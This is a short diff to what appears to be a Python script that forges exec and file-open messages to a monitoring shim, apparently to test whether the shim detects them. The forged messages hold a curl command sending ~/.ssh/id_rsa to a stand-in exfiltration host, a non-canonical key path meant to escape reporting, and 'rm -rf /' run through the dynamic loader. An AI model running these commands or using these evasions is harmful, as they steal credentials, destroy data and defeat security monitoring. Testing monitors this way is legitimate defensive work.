@@ -33,5 +33,10 @@ args = [b"curl", b"-d", b"@" + home + b"/.ssh/id_rsa", b"https://exfil.example.c
 s.send(message(2, EXEC, ACTION_EXEC, string(b"/usr/bin/curl") + struct.pack("<II", len(args), len(args)) +
                b"".join(string(a) for a in args)))
 s.send(message(3, OPEN, FILE_READ, string(home + b"/.ssh/id_rsa")))
+# a path no shim reports (not canonical), and rm -rf / run through the dynamic loader
+s.send(message(4, OPEN, FILE_READ, string(home + b"/./.ssh/id_rsa")))
+ld = [b"/lib64/ld-linux-x86-64.so.2", b"/usr/bin/rm", b"-rf", b"/"]
+s.send(message(5, EXEC, ACTION_EXEC, string(ld[0]) + struct.pack("<II", len(ld), len(ld)) +
+               b"".join(string(a) for a in ld)))
 s.close()
 print("forged")
